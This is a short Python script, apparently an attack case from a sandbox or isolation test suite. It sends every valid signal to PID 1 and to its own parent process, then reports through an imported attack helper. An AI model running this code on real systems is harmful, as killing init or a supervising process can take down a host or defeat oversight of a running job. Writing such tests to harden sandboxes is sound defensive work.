#!/usr/bin/env python3
"""Sends every signal that there is to the first process that it sees, and to its parent."""

import contextlib
import os
import signal

from attack import attack

for process in {1, os.getppid()} - {0}:
    for number in signal.valid_signals():
        with contextlib.suppress(OSError):
            os.kill(process, number)
attack(lambda: False)
